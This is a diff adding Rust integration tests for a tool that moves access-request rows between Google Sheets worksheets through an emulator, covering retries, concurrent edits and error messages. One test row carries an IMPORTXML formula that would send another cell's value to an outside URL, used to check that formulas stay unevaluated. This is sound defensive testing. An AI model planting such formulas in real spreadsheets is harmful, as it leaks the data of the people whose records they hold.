@@ -1,0 +1,231 @@
+//! The sign-up sheet at Google, by the emulator that Google's own clients work with.
+
+use std::path::Path;
+
+use serde_json::json;
+use usher_tests::google_sheets::GoogleSheets;
+use usher_tests::sheet::{AccessRow, DONE, HEADER, REQUESTS};
+use usher_tests::site::Site;
+
+use crate::newcomer;
+use crate::stage::{Stage, expect_status, expect_words};
+
+/// What reads a worksheet.
+const READ: &str = "sheets.spreadsheets.values.get";
+/// What lists the worksheets.
+const LIST: &str = "sheets.spreadsheets.get";
+/// What changes a spreadsheet.
+const CHANGE: &str = "sheets.spreadsheets.batchUpdate";
+
+/// A site whose access sheet is at Google.
+struct AtGoogle {
+    stage: Stage,
+    google: GoogleSheets,
+    site: Site,
+    spreadsheet: String,
+    // Dropped after the emulator that writes into it.
+    _folder: tempfile::TempDir,
+}
+
+impl AtGoogle {
+    fn new(rows: &[AccessRow], with_done: bool) -> Self {
+        let stage = Stage::new();
+        let folder = tempfile::Builder::new().prefix("usher-google-").tempdir().unwrap();
+        let google = GoogleSheets::start(folder.path()).unwrap();
+        let header: Vec<String> = HEADER.iter().map(|&heading| heading.to_owned()).collect();
+        let all: Vec<Vec<String>> =
+            std::iter::once(header.clone()).chain(rows.iter().map(|row| row.0.clone())).collect();
+        let done = [header];
+        let mut worksheets = vec![(REQUESTS, all.as_slice())];
+        if with_done {
+            worksheets.push((DONE, &done));
+        }
+        let spreadsheet = google.create(&worksheets).unwrap();
+        let site = stage.site(&[]);
+        let key_file = google.key_file();
+        let at = Self { stage, google, site, spreadsheet, _folder: folder };
+        at.use_google(&key_file);
+        at.google.calm().unwrap();
+        at
+    }
+
+    fn use_google(&self, key_file: &Path) {
+        self.site
+            .change_settings(
+                "backend = \"csv\"\naccess = \"access\"\nquota = \"quota\"\n",
+                &format!(
+                    "backend = \"google\"\ncredentials = \"{}\"\naccess = \"{}\"\nbase_url = \"{}\"\ntimeout = \"5s\"\n",
+                    key_file.display(),
+                    self.spreadsheet,
+                    self.google.url()
+                ),
+            )
+            .unwrap();
+    }
+
+    fn requests(&self) -> Vec<Vec<String>> {
+        self.google.rows(&self.spreadsheet, REQUESTS).unwrap().unwrap()
+    }
+
+    fn done(&self) -> Vec<Vec<String>> {
+        self.google.rows(&self.spreadsheet, DONE).unwrap().unwrap()
+    }
+
+    /// The addresses in the rows below the header.
+    fn addresses(rows: &[Vec<String>]) -> Vec<&str> {
+        rows[1..].iter().map(|row| row[4].as_str()).collect()
+    }
+}
+
+#[test]
+fn rows_move_within_four_calls_whatever_their_number_and_nothing_is_evaluated() {
+    let domain = "plain.google.example.org";
+    let mut rows: Vec<AccessRow> =
+        (0..5).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("Google {n}"))).collect();
+    rows[0].set(13, "=IMPORTXML(\"https://example.org/?\" & M2, \"//a\")");
+    rows[1].set(5, "\u{5d9}\u{5e2}\u{5dc}").set(6, "\u{1f98a}");
+    rows[2].set(12, "");
+    rows[3].set(0, "");
+    let at = AtGoogle::new(&rows, false);
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 1);
+    assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE], "{}", run.said());
+    let moved: Vec<String> = [0, 1, 4].map(|n| format!("user{n}@{domain}")).to_vec();
+    let left: Vec<String> = [2, 3].map(|n| format!("user{n}@{domain}")).to_vec();
+    let (requests, done) = (at.requests(), at.done());
+    assert_eq!(AtGoogle::addresses(&requests), left);
+    assert_eq!(AtGoogle::addresses(&done), moved);
+    assert_eq!(done[0], requests[0], "the worksheet that was made has the header");
+    assert_eq!(done[1], rows[0].0[..done[1].len()], "a row moves as it was");
+    assert!(done[1][13].starts_with("=IMPORTXML("));
+    at.google.expect_order().unwrap();
+
+    at.google.calm().unwrap();
+    expect_status(&at.site.import(&["--all"]).unwrap(), 1);
+    assert_eq!(at.google.calls().unwrap(), [READ], "nothing was left to move");
+    assert_eq!(at.stage.mail.received().unwrap().len(), 9);
+
+    // A name that would mean something else in a URL or in a range.
+    let odd = "2026/27? #1 100% A1:B2";
+    at.google
+        .edit(&at.spreadsheet, &json!([{ "kind": "rename-sheet", "sheet": REQUESTS, "title": odd }]))
+        .unwrap();
+    let row_parser = "[plugins.quota_policy]\n";
+    let worksheets =
+        format!("[plugins.row_parser.settings]\naccess = {{ requests = \"{odd}\" }}\n\n{row_parser}");
+    at.site.change_settings(row_parser, &worksheets).unwrap();
+    let run = at.site.import(&["--all", "--dry-run"]).unwrap();
+    expect_status(&run, 1);
+    expect_words(&run, &[&left[0]]);
+}
+
+#[test]
+fn a_sheet_that_people_edit_meanwhile_moves_only_finished_rows() {
+    let domain = "edited.google.example.org";
+    let rows: Vec<AccessRow> =
+        (0..4).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("Edited {n}"))).collect();
+    let edits = [
+        json!([{ "kind": "sort", "sheet": REQUESTS, "column": "E", "descending": true }]),
+        json!([{ "kind": "insert-row", "sheet": REQUESTS, "row": 2, "values": ["", "", "", "1/1/2019 10:00:00", "late@example.org"] }]),
+        json!([{ "kind": "delete-row", "sheet": REQUESTS, "row": 3 }]),
+        json!([{ "kind": "set-cell", "sheet": REQUESTS, "cell": "A4", "value": "denied" }]),
+    ];
+    for (number, edit) in edits.iter().enumerate() {
+        let rows: Vec<AccessRow> = rows
+            .iter()
+            .map(|row| {
+                let mut row = row.clone();
+                let (email, project) = (format!("{number}.{}", row.0[4]), format!("{} {number}", row.0[15]));
+                row.set(4, &email).set(15, &project);
+                row
+            })
+            .collect();
+        let at = AtGoogle::new(&rows, true);
+        // The sheet is read, and edited before it is read again for the move.
+        at.google
+            .faults(&json!([{ "method": READ, "nth": 2, "kind": "edit", "spreadsheet": at.spreadsheet, "edits": edit }]))
+            .unwrap();
+        let run = at.site.import(&["--all"]).unwrap();
+        assert!(run.status == Some(0), "{edit}: {}", run.said());
+        let (requests, done) = (at.requests(), at.done());
+        let mut moved = AtGoogle::addresses(&done);
+        moved.sort_unstable();
+        let left = AtGoogle::addresses(&requests);
+        let user = |n: usize| format!("{number}.user{n}@{domain}");
+        match number {
+            0 => assert_eq!((moved.len(), left.len()), (4, 0)),
+            1 => assert_eq!((moved.len(), left), (4, vec!["late@example.org"])),
+            2 => assert_eq!((moved, left.len()), (vec![&*user(0), &*user(2), &*user(3)], 0)),
+            _ => assert_eq!((moved, left), (vec![&*user(0), &*user(1), &*user(3)], vec![&*user(2)])),
+        }
+        at.google.expect_order().unwrap();
+    }
+}
+
+#[test]
+fn passing_trouble_is_waited_out_and_lost_answers_are_found_out() {
+    let domain = "faults.google.example.org";
+    let rows = [AccessRow::founding(&format!("user@{domain}"), "Google Faults")];
+    let at = AtGoogle::new(&rows, true);
+    at.google
+        .faults(&json!([
+            { "method": READ, "kind": "status", "status": 429, "retry_after": 1 },
+            { "method": READ, "nth": 3, "kind": "status", "status": 503 },
+            { "method": LIST, "kind": "cut-before" },
+            { "method": CHANGE, "kind": "status", "status": 429, "retry_after": 1 },
+            { "method": CHANGE, "nth": 2, "kind": "cut-after" },
+        ]))
+        .unwrap();
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_words(&run, &["not known whether Google has changed the spreadsheet"]);
+    // The change was made, and its answer was lost. The next run finds the row in the other worksheet.
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 0);
+    assert_eq!(at.requests().len(), 1);
+    assert_eq!(AtGoogle::addresses(&at.done()), [format!("user@{domain}")]);
+    assert_eq!(at.stage.mail.received().unwrap().len(), 3);
+    at.google.expect_order().unwrap();
+}
+
+#[test]
+fn errors_name_the_remedy_and_nothing_is_done() {
+    let domain = "errors.google.example.org";
+    let user = format!("user@{domain}");
+    let at = AtGoogle::new(&[AccessRow::founding(&user, "Google Errors")], true);
+    let key_file = at.google.key_file();
+    let swap = |from: &Path, to: &Path| {
+        at.site.change_settings(&from.display().to_string(), &to.display().to_string()).unwrap();
+    };
+    let stranger = at.google.stranger_key_file();
+    swap(&key_file, &stranger);
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 2);
+    let key: serde_json::Value = serde_json::from_slice(&std::fs::read(&stranger).unwrap()).unwrap();
+    expect_words(&run, &["share it as editor with", key["client_email"].as_str().unwrap()]);
+    let revoked = at.google.revoked_key_file();
+    swap(&stranger, &revoked);
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 2);
+    expect_words(&run, &["does not accept the service account", "Invalid JWT Signature"]);
+    swap(&revoked, &key_file);
+
+    at.site.change_settings(&at.spreadsheet, "another-id").unwrap();
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 2);
+    expect_words(&run, &["no spreadsheet another-id", "between /d/ and /edit"]);
+    at.site.change_settings("another-id", &at.spreadsheet).unwrap();
+
+    at.google
+        .edit(&at.spreadsheet, &json!([{ "kind": "rename-sheet", "sheet": REQUESTS, "title": "Answers" }]))
+        .unwrap();
+    let run = at.site.import(&["--all"]).unwrap();
+    expect_status(&run, 2);
+    expect_words(&run, &[REQUESTS, "\"Answers\"", DONE]);
+
+    assert_eq!(at.stage.cloud.identity().unwrap().user_id(&user).unwrap(), None);
+    assert!(at.stage.mail.received().unwrap().is_empty());
+    assert!(newcomer::links(&at.stage.mail, &user).is_empty());
+    let doctor = at.site.usher(&["doctor"]).unwrap();
+    expect_status(&doctor, 2);
+    expect_words(&doctor, &["\"Answers\""]);
+}
